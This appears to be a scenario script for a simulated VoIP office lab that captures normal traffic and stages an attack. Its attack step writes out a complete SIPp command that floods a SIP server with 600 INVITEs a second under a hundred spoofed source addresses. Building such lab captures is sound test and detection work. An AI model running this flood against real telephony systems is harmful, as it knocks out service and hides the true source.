# SIPp sends 600 INVITEs a second for twenty seconds under a hundred addresses that are not its own.
relocate example.com 5060 172.16.66 198.18.63 100.64.63
EXTENSIONS=(3001 3002 3003 3004 3005 3006 3007)
EXISTING='^30[0-4][0-9]$'
WEAK=none
MAX_PACKETS=40000
open_office
add_attacker spoofer 100.64.63.250
spoof spoofer 172.16.66.{11..17} 100.64.63.{40..132}
start_office_capture
keep_alive 12
office_day 403 85
at 30 attack A1 invite_flood spoofer 5060 "SIPp sends 12,000 INVITEs, 600 a second, for a number that does not exist, under a hundred addresses that are not its own." \
    "$(version_of sipp)" env TERM=dumb sipp -sf "$parts/sipp/flood-spoofed.xml" -nostdin -default_behaviors none \
    -t ui -max_socket 2000 -ip_field 0 -inf "$scratch/sources.csv" -cid_str "%u-%p" -i 100.64.63.250 -mi 100.64.63.250 -p 5060 \
    -s 3999 -r 600 -m 12000 172.16.66.1:5060
play
wait_for A1
close_office
